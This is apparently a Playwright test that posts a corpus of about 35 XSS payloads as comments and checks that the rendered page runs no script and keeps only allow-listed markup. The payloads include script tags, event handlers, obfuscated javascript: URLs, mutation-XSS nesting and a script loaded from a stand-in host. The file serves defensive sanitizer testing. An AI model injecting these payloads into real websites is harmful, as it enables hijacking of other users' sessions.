// A corpus of XSS payloads posted as comments and rendered in Chromium: no script may run (no
// dialog, no flag set on window, no request to an outside host), and the rendered bodies hold
// nothing outside the allow-list. The payloads try to set window.__xss or open a dialog.
import { api, demoAccounts, expect, recordDialogs, test } from './fixtures.ts';

const opinionSlug = 'organic-food-is-worth-the-extra-cost';

const payloads = [
  '<script>window.__xss = 1; alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss=2;alert(2)">',
  '<p onclick="window.__xss=3" onmouseover="window.__xss=3">hover me</p>',
  '<a href="javascript:window.__xss=4;alert(4)">click</a>',
  '<a href="JaVaScRiPt:alert(5)">mixed case</a>',
  '<a href="jav&#x09;ascript:alert(6)">tab entity</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(7)">entities</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==">data url</a>',
  '<a href="vbscript:msgbox(9)">vbscript</a>',
  '<svg onload="window.__xss=10"><script>alert(10)</script></svg>',
  '<svg><animate onbegin="window.__xss=11" attributeName="x" dur="1s"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=12"></style></mglyph></table></mtext></math>',
  '<style>body{background:url("javascript:alert(13)")}</style><p style="background:url(javascript:alert(13))">styled</p>',
  '<iframe src="javascript:alert(14)"></iframe><iframe srcdoc="<script>parent.__xss=14</script>"></iframe>',
  '<object data="javascript:alert(15)"></object><embed src="javascript:alert(15)">',
  '<body onload="window.__xss=16">body</body>',
  '<input autofocus onfocus="window.__xss=17">',
  '<details open ontoggle="window.__xss=18">details</details>',
  '<video><source onerror="window.__xss=19"></video>',
  '<form action="javascript:alert(20)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(21)">',
  '<base href="javascript:alert(22)//">',
  '<img src="x" alt="`<img src=x onerror=window.__xss=23>`">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=24>"></noscript>',
  '"><img src=x onerror=window.__xss=25>',
  '&lt;img src=x onerror=window.__xss=26&gt;',
  '<a href="https://example.com" onclick="window.__xss=27" target="_blank" rel="opener">a real link</a>',
  '<template><img src=x onerror="window.__xss=28"></template>',
  '<textarea><img src=x onerror="window.__xss=29"></textarea>',
  '<xmp><img src=x onerror="window.__xss=30"></xmp>',
  '<isindex type=image src=1 onerror=window.__xss=31>',
  '<link rel=stylesheet href="javascript:alert(32)">',
  '<div style="width: expression(alert(33))">expression</div>',
  '<a href="//evil.test/x">protocol relative</a>',
];

test('no XSS payload runs or survives when comments are rendered', async ({ page, people }) => {
  const author = await people.loggedInOverHttp(demoAccounts.admin);
  const threadID = await api.opinionId(author, opinionSlug);
  const marker = `xss-${Date.now()}`;
  for (const [index, payload] of payloads.entries()) {
    await api.postComment(author, { threadID, body: `${marker} #${index}: ${payload}`, responseType: 'commentary' });
  }

  const dialogs = recordDialogs(page, { answer: 'dismiss' });
  const outsideRequests: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith('http://127.0.0.1') && !request.url().startsWith('ws://127.0.0.1') && !request.url().startsWith('data:')) {
      outsideRequests.push(request.url());
    }
  });
  await page.goto(`/o/${opinionSlug}`);
  const bodies = page.getByTestId('comment-body').filter({ hasText: marker });
  await expect(bodies).toHaveCount(payloads.length);
  // Hover, click and focus what could carry a handler.
  for (const text of ['hover me', 'details', 'a real link']) {
    const element = bodies.getByText(text).first();
    if (await element.count()) await element.hover();
  }
  await page.waitForLoadState('networkidle');

  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(outsideRequests).toEqual([]);

  // Nothing outside the allow-list reached the DOM.
  const report = await bodies.evaluateAll((elements) => {
    const allowed = new Set(['P', 'BR', 'A', 'EM', 'STRONG', 'I', 'B', 'U', 'S', 'UL', 'OL', 'LI', 'BLOCKQUOTE']);
    const problems: string[] = [];
    for (const body of elements) {
      for (const element of body.querySelectorAll('*')) {
        if (!allowed.has(element.tagName)) problems.push(`tag ${element.tagName}`);
        for (const attribute of element.attributes) {
          if (element.tagName === 'A' && (attribute.name === 'href' || attribute.name === 'rel')) continue;
          problems.push(`${element.tagName}[${attribute.name}]`);
        }
        if (element.tagName === 'A') {
          const href = element.getAttribute('href');
          if (href !== null && !/^(https?:|mailto:)/i.test(href)) problems.push(`href ${href}`);
          if (element.getAttribute('rel') !== 'nofollow noopener') problems.push(`rel ${element.getAttribute('rel')}`);
        }
      }
    }
    return problems;
  });
  expect(report).toEqual([]);
  // The one real link survives, made safe.
  await expect(bodies.getByRole('link', { name: 'a real link' })).toHaveAttribute('href', 'https://example.com');
});
